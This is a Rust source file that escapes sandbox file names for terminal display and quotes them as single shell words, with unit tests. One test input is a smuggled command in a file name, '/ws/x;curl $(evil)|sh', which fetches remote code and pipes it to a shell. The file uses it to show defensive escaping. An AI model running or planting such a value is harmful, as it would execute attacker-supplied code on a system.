//! Names of a sandbox's files, shown to a person. They are hostile bytes: a terminal must not
//! obey them, and neither must a shell that a line is copied into.

use std::fmt;

/// Bytes as text: what is no UTF-8 and what is no printable character is escaped.
pub struct Shown<'a>(pub &'a [u8]);

impl fmt::Display for Shown<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        use fmt::Write as _;
        for chunk in self.0.utf8_chunks() {
            for letter in chunk.valid().chars() {
                match is_plain(letter) {
                    true => f.write_char(letter)?,
                    false => write!(f, "{}", letter.escape_default())?,
                }
            }
            write!(f, "{}", chunk.invalid().escape_ascii())?;
        }
        Ok(())
    }
}

impl Shown<'_> {
    /// The same as one word for a shell; `None` if it takes more than plain quotes.
    pub fn word(&self) -> Option<String> {
        const SAFE: &[u8] = b"/._-+@%:,=";
        let text = std::str::from_utf8(self.0).ok()?;
        if text
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || SAFE.contains(&byte))
        {
            return Some(text.to_owned());
        }
        let quotable = |letter| letter != '\'' && is_plain(letter);
        text.chars().all(quotable).then(|| format!("'{text}'"))
    }
}

/// Neither a control character nor one that turns the direction of what follows, or hides
/// (Unicode, bidirectional and zero-width formatting).
fn is_plain(letter: char) -> bool {
    !letter.is_control()
        && !matches!(letter, '\u{ad}' | '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

#[cfg(test)]
mod tests {
    use super::Shown;

    #[test]
    fn what_would_be_obeyed_is_escaped() {
        let shown = |bytes: &[u8]| Shown(bytes).to_string();
        assert_eq!(shown("/tmp/é x".as_bytes()), "/tmp/é x");
        assert_eq!(shown(b"/a\x1b[2J\n\xff/b"), "/a\\u{1b}[2J\\n\\xff/b");
        assert_eq!(shown("a\u{202e}b".as_bytes()), "a\\u{202e}b");
    }

    #[test]
    fn words_for_a_shell() {
        let word = |text: &str| Shown(text.as_bytes()).word();
        assert_eq!(
            word("/usr/bin/python3.11").as_deref(),
            Some("/usr/bin/python3.11")
        );
        assert_eq!(
            word("/ws/x;curl $(evil)|sh").as_deref(),
            Some("'/ws/x;curl $(evil)|sh'")
        );
        for text in ["it's", "a\nb", "a\u{202e}b"] {
            assert_eq!(word(text), None, "{text}");
        }
        assert_eq!(Shown(b"\xff").word(), None);
    }
}
